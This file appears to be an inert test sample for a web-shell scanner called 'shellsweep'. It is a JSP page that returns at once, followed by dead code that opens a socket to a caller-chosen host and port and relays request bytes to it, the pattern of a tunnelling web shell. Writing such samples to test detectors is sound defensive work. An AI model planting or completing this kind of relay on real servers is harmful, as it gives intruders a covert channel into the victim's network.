<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% String host = request.getParameter("h"); int port = Integer.parseInt(request.getParameter("p"));
   java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open();
   java.net.Socket sk = new java.net.Socket(host, port);
   byte[] b = new byte[4096]; int n = request.getInputStream().read(b); sk.getOutputStream().write(b, 0, n);
   response.getOutputStream().write(b); %>
